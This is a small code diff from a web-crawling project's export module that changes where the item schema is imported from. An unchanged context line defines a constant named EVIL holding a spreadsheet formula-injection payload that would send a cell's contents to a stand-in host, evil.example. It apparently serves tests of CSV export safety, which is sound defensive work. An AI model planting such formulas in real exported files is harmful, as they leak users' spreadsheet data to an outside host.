@@ -29,7 +29,7 @@ from crawlproject.errors import BadCrawlDir, BadInput, StorageFailed
 from crawlproject.exporting.files import FORMATS, export_file
 from crawlproject.exporting.selection import EVERYTHING, Selection, read_items
 from crawlproject.exporting.tables import write_csv, write_graphml, write_parquet
-from crawlproject.storage.items import item_schema
+from crawlproject.storage.page_files import item_schema
 
 NAMES = list(item_schema()["properties"])
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
